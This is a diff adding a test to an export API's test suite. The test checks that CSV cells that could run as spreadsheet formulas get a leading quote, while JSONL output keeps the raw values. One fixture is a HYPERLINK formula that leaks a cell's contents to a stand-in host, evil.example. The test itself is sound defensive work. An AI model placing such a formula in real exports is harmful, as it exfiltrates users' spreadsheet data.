@@ -261,6 +261,27 @@ describe("the result API", () => {
       expect(rows[0]!.text).toBe('Says "great",\nthen: =SUM(1)');
     });
 
+    it("CSV text cells a spreadsheet would run as a formula start with a quote; numbers and JSONL stay as they are", async () => {
+      const search = await createSearch();
+      const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
+      const id = await createPredictedItem({ model, searchId: search.id, title: formula });
+      await prisma.redditItem.update({ where: { id }, data: { score: -3, body: "@SUM(1+1)", author: "+cmd" } });
+      const comment = await createPredictedItem({ model, searchId: search.id, kind: "comment", createdUtc: new Date("2020-01-01T00:00:00Z") });
+      await prisma.redditItem.update({ where: { id: comment }, data: { body: "\t=1+1", author: "-dash" } });
+      const carriageReturn = await createPredictedItem({ model, searchId: search.id, createdUtc: new Date("2019-01-01T00:00:00Z") });
+      await prisma.redditItem.update({ where: { id: carriageReturn }, data: { body: "\r=1+1" } });
+
+      const rows = parseCsv(await (await download(search.id, "format=csv")).text());
+      const row = (itemId: string) => rows.find((candidate) => candidate.id === itemId)!;
+      expect(row(id)).toMatchObject({ title: `'${formula}`, text: "'@SUM(1+1)", author: "'+cmd", score: "-3" });
+      expect(row(comment)).toMatchObject({ text: "'\t=1+1", author: "'-dash", score: "3" });
+      expect(row(carriageReturn).text).toBe("'\r=1+1");
+      expect(Number(row(id).model_confidence)).toBeGreaterThan(0); // numbers are never prefixed
+
+      const lines = (await (await download(search.id, "format=jsonl")).text()).trimEnd().split("\n").map((line) => JSON.parse(line));
+      expect(lines.find((line) => line.id === id)).toMatchObject({ title: formula, text: "@SUM(1+1)", author: "+cmd", score: -3 });
+    });
+
     it("JSONL lines equal the filtered items across several batches", async () => {
       const search = await createSearch();
       const created = new Set<string>();
